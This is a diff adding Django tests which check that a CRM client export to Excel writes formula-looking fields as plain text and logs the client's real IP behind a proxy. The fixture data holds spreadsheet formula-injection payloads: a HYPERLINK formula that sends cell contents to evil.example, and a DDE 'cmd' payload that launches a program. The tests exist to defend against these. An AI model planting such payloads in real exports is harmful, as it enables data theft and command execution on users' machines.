@@ -101,13 +101,41 @@ def test_an_export_holds_the_filtered_clients_and_is_logged(client, sales_head, 
     rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True))
     assert rows[0][0] == "Клиент"
     assert [row[0] for row in rows[1:]] == ["Автомойка «Блеск»"]
-    assert rows[1][-1] == "+79120001122"
+    assert rows[1][-1] == "'+79120001122"  # text starting with "+" is never a formula
     [export] = ClientExport.objects.all()
     assert (export.by, export.rows) == (head, 1)
     assert "segment=" in export.filters
 
     page = client.get(reverse("audit")).content.decode()
     assert "Выгрузки клиентской базы" in page and ">1<" in page
+
+
+def test_an_export_writes_formula_looking_client_fields_as_text(client, sales_head, hunter):
+    make_client(
+        acting_user=hunter,
+        name='=HYPERLINK("http://evil.example/?"&A3&B3,"Открыть")',
+        city="@SUM(1+1)",
+        address="-2+3+cmd|' /C calc'!A0",
+        segment="Автомойки",
+    )
+    client.force_login(grant_export(sales_head))
+
+    sheet = load_workbook(BytesIO(client.get(reverse("clients:export")).content)).active
+
+    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    name, city, address, segment = (cell.value for cell in next(sheet.iter_rows(min_row=2))[:4])
+    assert name == '\'=HYPERLINK("http://evil.example/?"&A3&B3,"Открыть")'
+    assert (city, address, segment) == ("'@SUM(1+1)", "'-2+3+cmd|' /C calc'!A0", "Автомойки")
+
+
+def test_an_export_through_the_proxy_is_logged_with_the_client_s_address(client, settings, sales_head):
+    settings.TRUSTED_PROXY_COUNT = 1
+    client.force_login(grant_export(sales_head))
+
+    proxied = {"REMOTE_ADDR": "172.18.0.5", "HTTP_X_FORWARDED_FOR": "1.1.1.1, 203.0.113.7"}
+    client.get(reverse("clients:export"), **proxied)
+
+    assert ClientExport.objects.get().address == "203.0.113.7"
 
 
 def test_a_hunter_with_the_permission_exports_only_own_clients(client, hunter, other_hunter):
